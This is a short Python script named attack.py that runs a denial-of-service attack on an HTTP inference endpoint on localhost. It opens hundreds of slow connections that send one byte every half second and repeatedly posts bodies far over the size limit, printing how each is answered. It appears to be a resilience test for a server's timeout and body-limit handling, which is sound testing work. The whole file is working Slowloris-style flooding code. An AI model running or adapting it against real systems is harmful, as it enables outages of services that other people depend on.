"""A program that means no good: slow clients by the hundred, and bodies far over the limit, until it is killed.

`python attack.py PORT SLOW BODY_BYTES`; it says `on` once all slow clients are connected, and of each body how it was
answered.
"""

import asyncio
import contextlib
import sys

HEAD = "POST /v2/models/rides/infer HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n"
PIECE = b"[" * 65_536


async def slow(port: int) -> None:
    """Begin a request, and send a byte of it now and then; whoever is put out comes again."""
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(HEAD.format(10_000).encode() + b"{")
            connected.release()
            while not writer.is_closing():
                await asyncio.sleep(0.5)
                writer.write(b" ")
                await writer.drain()
        await asyncio.sleep(0.1)


async def big(port: int, size_bytes: int) -> None:
    """Send a body that is too long, twice a second."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(HEAD.format(size_bytes).encode())
            for _ in range(size_bytes // len(PIECE)):
                writer.write(PIECE)
                await writer.drain()
            say((await reader.read(100))[:12].decode())
            writer.close()
        await asyncio.sleep(0.5)


def say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


async def main(port: int, count: int, size_bytes: int) -> None:
    tasks = [asyncio.create_task(slow(port)) for _ in range(count)]
    for _ in range(count):
        await connected.acquire()
    say("on")
    await asyncio.gather(*tasks, big(port, size_bytes))


connected = asyncio.Semaphore(0)
asyncio.run(main(*map(int, sys.argv[1:])))
